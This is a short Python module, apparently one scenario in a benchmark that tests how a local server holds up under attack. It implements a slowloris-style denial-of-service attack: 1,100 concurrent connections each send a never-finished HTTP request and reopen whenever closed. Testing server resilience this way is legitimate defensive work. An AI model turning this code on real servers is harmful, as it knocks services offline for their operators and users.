"""1,100 requests that begin and never end. Whatever the server closes is opened again."""

from __future__ import annotations

import asyncio

from benches.attack.target import Target

TITLE = "half-open requests"
CONNECTIONS = 1100


async def attack(target: Target) -> str:
    opened = refused = 0

    async def hold() -> None:
        nonlocal opened, refused
        while not target.over():
            try:
                async with asyncio.timeout(max(0.1, target.left())):
                    reader, writer = await target.connect()
                    writer.write(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n")
                    opened += 1
                    await reader.read()
                    writer.close()
                    refused += 1
            except (OSError, TimeoutError):
                pass
            await asyncio.sleep(0.2)

    await asyncio.gather(*(hold() for _ in range(CONNECTIONS)))
    return f"{opened:,} opened, {CONNECTIONS:,} at once; the server ended {refused:,}"
